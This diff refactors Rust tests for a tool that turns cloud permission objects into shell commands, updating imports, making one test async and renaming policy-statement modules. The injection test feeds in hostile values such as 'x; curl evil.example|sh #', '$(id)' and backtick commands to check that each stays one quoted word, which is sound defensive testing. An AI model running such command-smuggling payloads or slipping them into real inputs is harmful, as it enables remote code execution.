@@ -1,10 +1,17 @@
 //! Objects as attributes, and as commands: no part of them ends as something else there.
 
-use cloudgrant_core::{ObjectId, Ownership, Scope};
+use cloudgrant_core::{Object, ObjectId, Ownership, Scope};
 use serde_json::json;
 
-use super::*;
 use crate::config::AccountId;
+use crate::objects::attributes::raw;
+use crate::objects::pod_identity_association::association;
+use crate::objects::tags::Tags;
+use crate::objects::{
+    KINDS, attachment, bucket_statement, key_statement, kind, managed_policy, repository_statement, role,
+    statement_kinds,
+};
+use crate::tests::{config, connected};
 
 /// The words of a POSIX shell's line; nothing where something else than words is in it.
 fn words(line: &str) -> Option<Vec<String>> {
@@ -32,17 +39,15 @@ fn words(line: &str) -> Option<Vec<String>> {
     Some(words)
 }
 
-#[test]
-fn whatever_is_in_an_object_stays_one_word_of_its_command() {
-    let stack = cloudgrant_core::Stack::parse("tests").expect("a stack");
-    let account = AccountId::parse("111122223333").expect("an account");
-    let names = Names::new(stack, "aws", account, Some("a.example/id"));
+#[tokio::test]
+async fn whatever_is_in_an_object_stays_one_word_of_its_command() {
+    let aws = connected("flyte", config("http://127.0.0.1:1")).await;
     for odd in ["x; curl evil.example|sh #", "$(id)", "`id`", "it's", "a b", "a\nb", "*", "\"", "&", "~", "\\"] {
         for id in [
             managed_policy::KIND,
             role::KIND,
             attachment::KIND,
-            pod_identity_association::KIND,
+            association::KIND,
             bucket_statement::KIND,
             key_statement::KIND,
         ] {
@@ -62,7 +67,7 @@ fn whatever_is_in_an_object_stays_one_word_of_its_command() {
                 touches: Vec::new(),
                 handoff: None,
             };
-            let commands = kind(id).expect("a kind").commands(&object, &names);
+            let commands = kind(id).expect("a kind").commands(aws.of_objects(), &object);
             assert!(!commands.is_empty(), "{id:?}");
             for command in commands {
                 if command.starts_with("# ") {
@@ -80,7 +85,7 @@ fn whatever_is_in_an_object_stays_one_word_of_its_command() {
 #[test]
 fn a_statement_is_in_the_document_that_its_attributes_name() {
     use crate::resources::kinds::repository::Repository;
-    use crate::shared_document::{CustomerKey, OwnedBucket, Shared};
+    use crate::shared_document::shared::{CustomerKey, OwnedBucket, Shared};
 
     let account = AccountId::parse("444455556666").expect("an account");
     let statement = json!({ "Sid": "AllowPull", "Effect": "Allow" });
@@ -101,14 +106,14 @@ fn a_statement_is_in_the_document_that_its_attributes_name() {
         ),
         (Shared::Key(key.clone()), key_statement::KIND, json!({ "key": key.arn(), "statement": statement })),
     ] {
-        let (id, attributes) = policy_statement::wanted(&shared, &statement);
+        let (id, attributes) = statement_kinds::wanted(&shared, &statement);
         assert_eq!((id.kind, id.name), (kind, format!("{}#AllowPull", shared.arn())));
         assert_eq!(attributes.as_str(), expected.to_string());
-        assert_eq!(policy_statement::document(kind, &attributes), Some(shared));
+        assert_eq!(statement_kinds::document(kind, &attributes), Some(shared));
     }
     // Without its account, nobody knows whose policy it is in.
     let unowned = bucket_statement::attributes("arn:aws:s3:::acme-training", None, &statement);
-    assert_eq!(policy_statement::document(bucket_statement::KIND, &unowned), None);
+    assert_eq!(statement_kinds::document(bucket_statement::KIND, &unowned), None);
 }
 
 #[test]
